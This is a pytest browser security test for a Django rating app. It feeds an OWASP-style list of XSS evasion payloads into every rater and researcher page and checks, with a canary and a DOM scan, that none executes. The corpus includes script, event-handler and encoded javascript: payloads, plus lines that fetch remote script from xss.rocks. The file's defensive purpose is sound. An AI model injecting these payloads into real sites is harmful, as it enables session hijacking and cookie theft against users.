"""The XSS corpus (OWASP's "XSS Filter Evasion Cheat Sheet") in every field a rater or a
researcher sees, rendered in real Chromium with a canary: alert, confirm and prompt record
their calls, and the DOM is searched for anything a payload could run (event handlers,
javascript: URLs, frames, foreign scripts). 0 executions, 0 live payloads."""

from __future__ import annotations

import pytest
from django.test import Client

from comparisons.ingest.rows import validate_rows
from comparisons.services import comparisons_build, outputs_upload, study_create, study_open
from raters import services
from raters.models import Vote
from tests.raters.test_browser import in_browser, new_page  # noqa: F401 - the module's Chromium fixture
from tests.security.world import researcher

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

CORPUS = [
    "<script>alert('XSS')</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<a onmouseover="alert(document.cookie)">xxs link</a>',
    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
    (
        '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116'
        '&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">'
    ),
    (
        "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"
        "&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>"
    ),
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
    "<iframe src=http://xss.rocks/scriptlet.html <",
    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<svg/onload=alert('XSS')>",
    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
    "<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
    '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
    "<details open ontoggle=alert(1)>",
    '<a href="jAvAsCrIpT:alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    '<base href="javascript:alert(1)//">',
    "{{ 7|add:7 }}{% debug %}",
]
SHORT = [p for p in CORPUS if len(p) <= 60 and "\t" not in p and "&#14;" not in p]

CANARY = """
window.__fired = [];
for (const name of ["alert", "confirm", "prompt", "print"]) {
  window[name] = (...args) => { window.__fired.push(name + ":" + args.join(",")); };
}
"""

FIRE = """() => {
  for (const el of document.querySelectorAll("a, img, div, details, td")) {
    for (const type of ["mouseover", "focus", "toggle", "error", "load"]) el.dispatchEvent(new Event(type));
  }
}"""

LIVE = """() => {
  const found = [];
  for (const el of document.querySelectorAll("*")) {
    for (const a of el.attributes) {
      if (/^on/i.test(a.name)) found.push(`${el.tagName} ${a.name}`);
      if (["href", "src", "action", "data", "background", "formaction", "xlink:href"].includes(a.name.toLowerCase())
          && /^\\s*(javascript|vbscript|data:text\\/html)/i.test(a.value)) {
        found.push(`${el.tagName} ${a.name}=${a.value}`);
      }
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FRAME"].includes(el.tagName)) found.push(el.tagName);
    if (el.tagName === "SCRIPT" && !(el.getAttribute("src") || "").startsWith("/static/")
        && el.getAttribute("type") !== "application/json") found.push("inline SCRIPT");  // DRF's CSRF data is inert
    if (el.tagName === "META" && /refresh/i.test(el.getAttribute("http-equiv") || "")) found.push("META refresh");
    if (el.tagName === "LINK" && !(el.getAttribute("href") || "").startsWith("/static/")) found.push("LINK");
  }
  if (document.body && document.body.innerText.includes("14{")) found.push("template evaluated");
  return found;
}"""


def build(owner) -> tuple[int, list[int]]:
    study = study_create(
        owner=owner,
        name=SHORT[0],
        slug="xss",
        design="focal",
        focal_system=SHORT[1],
        baselines=[SHORT[2]],
        question=CORPUS[2][:500],
        choices={"a": SHORT[3], "b": SHORT[4], "tie": SHORT[5]},
    )
    corpus = "\n\n".join(CORPUS)
    rows = []
    for i in range(3):
        rows.append(
            {
                "prompt_id": f"{SHORT[6 + i]}",
                "prompt": corpus,
                "system": SHORT[1],
                "response": corpus,
                "category": SHORT[9 + i],
            }
        )
        rows.append({"prompt_id": f"{SHORT[6 + i]}", "system": SHORT[2], "response": "plain " + corpus})
    valid, errors = validate_rows(list(enumerate(rows, start=1)), max_text_chars=10**6)
    assert not errors, errors
    outputs_upload(study=study, rows=valid)
    study = study_open(study=study)
    comparisons_build(study_id=study.pk)
    services.rater_settings_update(study=study, guidelines=corpus, completion_code=SHORT[12][:64], quota=3)
    return study.pk, list(study.prompts.values_list("pk", flat=True))


def test_no_payload_runs_on_any_rater_or_researcher_page(live_server, in_browser):  # noqa: F811
    owner = researcher("xss-owner")
    _, prompt_ids = build(owner)
    login = Client()
    login.force_login(owner)
    session = login.cookies["sessionid"].value
    base = live_server.url
    rationale = "\n".join(CORPUS)[:4900]

    def steps(browser) -> dict:
        context = browser.new_context()
        context.add_init_script(CANARY)
        page = context.new_page()
        dialogs: list[str] = []

        def on_dialog(dialog) -> None:  # noqa: ANN001 - Playwright's Dialog
            dialogs.append(dialog.message)
            dialog.dismiss()

        page.on("dialog", on_dialog)
        report: dict[str, list[str]] = {}

        def check(name: str) -> None:
            page.wait_for_load_state("load")
            report[name] = page.evaluate(LIVE) + page.evaluate("() => window.__fired || []")
            page.evaluate(FIRE)
            report[name] += page.evaluate("() => window.__fired || []")

        page.goto(f"{base}/r/xss/?PROLIFIC_PID=xssrater&STUDY_ID=s&SESSION_ID=x")
        check("instructions")
        page.check("input[name=consent]")
        page.click("button[type=submit]")
        for n in range(3):
            check(f"vote {n + 1}")
            page.fill("textarea[name=rationale]", rationale)
            page.check("input[name=choice][value=tie]")
            page.click("form button[type=submit]")
        check("done")
        context.add_cookies([{"name": "sessionid", "value": session, "url": base}])
        for path in [
            "/dashboard/",
            "/dashboard/s/xss/",
            "/dashboard/s/xss/prompts/",
            *(f"/dashboard/s/xss/prompts/{pk}/" for pk in prompt_ids),
            "/api/studies/xss/",
            "/api/studies/xss/revealing/",
            "/api/studies/xss/raters/",
        ]:
            page.goto(base + path)
            check(path)
        context.close()
        return {"report": report, "dialogs": dialogs}

    result = in_browser(steps, timeout=300)
    assert result["dialogs"] == []
    assert {page: found for page, found in result["report"].items() if found} == {}
    assert len(result["report"]) >= 14
    assert Vote.objects.filter(rater__external_id="xssrater").count() == 3  # the rater really went through
    stored = Vote.objects.filter(rater__external_id="xssrater").first().rationale
    assert "<script>alert('XSS')</script>" in stored  # stored as written, made inert only where shown
